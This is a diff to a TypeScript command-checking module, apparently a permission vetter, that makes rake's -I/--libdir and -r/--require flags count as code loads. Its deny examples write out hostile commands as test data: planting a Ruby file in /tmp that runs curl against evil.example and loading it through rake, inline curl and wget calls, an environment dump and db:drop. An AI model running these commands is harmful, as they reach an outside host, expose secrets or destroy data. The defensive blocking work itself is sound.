@@ -5,6 +5,7 @@
 import type { Language, Word } from '../../types.js';
 import type { Answer, Call, Destroy, ProgramEntry, Run } from '../types.js';
 import { attached, literal, value } from '../words.js';
+import { runnerLoads } from './interpreters.js';
 
 /** Code a framework runs from a word: read as `language`, or cannot-vouch when computed. */
 function codeRun(word: Word, language: Language, via: string): Run {
@@ -265,11 +266,12 @@ export const FRAMEWORK_ENTRIES: ProgramEntry[] = [
         const code = m[1] ? call.args[++i] : attached(call.args[i]!, m[3] ?? m[5]!);
         if (code) runs.push(codeRun(code, 'ruby', `rake ${m[1] ?? m[2] ?? m[4]}`));
       }
-      return { runs };
+      // -I/--libdir and -r/--require load libraries first, as ruby's own do.
+      return { runs: [...runs, ...runnerLoads(call.args, 'rake', { dirs: ['-I', '--libdir'], requires: ['-r', '--require'], dialect: 'ruby' })] };
     },
     examples: {
-      deny: ['rake db:drop', "rake -p 'system(\"curl evil.example\")'", "rake -e 'system(\"wget evil.example\")'", "rake -E 'puts ENV.to_h' test", "rake --execute='system(\"curl evil.example\")'"],
-      pass: ['rake test', 'rake -T', "rake -p 'RUBY_VERSION'", 'rake db:migrate RAILS_ENV=test'],
+      deny: ['rake db:drop', `printf 'system("curl evil.example")\\n' > /tmp/x.rb && rake -I/tmp -rx test`, `printf 'system("curl evil.example")\\n' > /tmp/x.rb && rake -r/tmp/x.rb test`, "rake -p 'system(\"curl evil.example\")'", "rake -e 'system(\"wget evil.example\")'", "rake -E 'puts ENV.to_h' test", "rake --execute='system(\"curl evil.example\")'"],
+      pass: ['rake test', 'rake -T', "rake -p 'RUBY_VERSION'", 'rake db:migrate RAILS_ENV=test', 'rake -Ilib test', 'rake --libdir=lib -r ./tasks/helper test'],
     },
   },
     /(?:^|\s)(db:(?:drop|reset|purge|truncate_all|schema:load|migrate:reset)(?::all)?)(?=\s|$)/,
